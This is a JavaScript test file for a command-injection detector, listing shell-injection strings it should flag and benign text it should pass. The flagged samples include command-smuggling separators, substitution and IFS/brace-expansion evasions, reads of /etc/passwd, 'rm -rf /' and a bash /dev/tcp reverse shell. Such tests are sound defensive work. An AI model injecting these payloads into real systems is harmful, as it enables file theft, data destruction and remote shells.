import { test } from 'node:test';
import { detectCmdi } from './cmdi.js';
import { expectDetector } from './detectors.testkit.js';

test('cmdi: a separator followed by a command; English words only with shell-like arguments', () => {
  expectDetector(detectCmdi, [
    ['a.txt; uname -a', 'cmdi.separator'], ['x | cat /etc/hosts', 'cmdi.separator'], ['$(hostname)', 'cmdi.substitution'],
    ['`nc -l 9`', 'cmdi.substitution'], ['x;sleep 7', 'cmdi.separator'], ['a\nwhoami', 'cmdi.separator'], ['b && echo hi', 'cmdi.separator'],
    ['; /usr/bin/id', 'cmdi.separator'], ["; w'h'oami", 'cmdi.separator'], ['a;cat${IFS}x', 'cmdi.ifs'], ['{ls,-la}', 'cmdi.brace-expansion'],
    ['bash -i >& /dev/tcp/1.2.3.4/1 0>&1', 'cmdi.reverse-shell'],
  ], [
    'Tom & Jerry; cat lovers unite', 'Salt & pepper', 'Read this; sleep well tonight', 'Run `npm test` first', '| Name | Type |',
    'Mozilla/5.0 (X11; Linux x86_64)', 'a=1; b=2', 'R&D; echo chamber', 'Q&A', 'cats; dogs; birds',
  ]);
});

test('cmdi: separators are found whether triggers are dense or far apart', () => {
  expectDetector(detectCmdi, [
    ['a;b;c;whoami', 'cmdi.separator'], ['Please read the notes below before you start; they are long and detailed, really; whoami', 'cmdi.separator'],
    ['{{{{{cat,/etc/passwd}', 'cmdi.brace-expansion'], ['x\n\nid', 'cmdi.separator'], ['a$(id)', 'cmdi.substitution'],
  ], ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'en-IE,en;q=0.9', 'bash -i >& /DEV/TCP/1.2.3.4/9 0>&1']);
});

test("cmdi: ';' as the only trigger character is found with indexOf; other triggers still count", () => {
  expectDetector(detectCmdi, [
    ['a; whoami', 'cmdi.separator'], ['a;whoami', 'cmdi.separator'], ['x;y;z; cat /etc/passwd', 'cmdi.separator'],
    ['a|b; whoami', 'cmdi.separator'], ['a;\twhoami', 'cmdi.separator'], ['x; rm -rf /', 'cmdi.separator'],
  ], ['Win64; x64', 'problem; thanks!', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36', 'en-IE,en;q=0.9']);
});
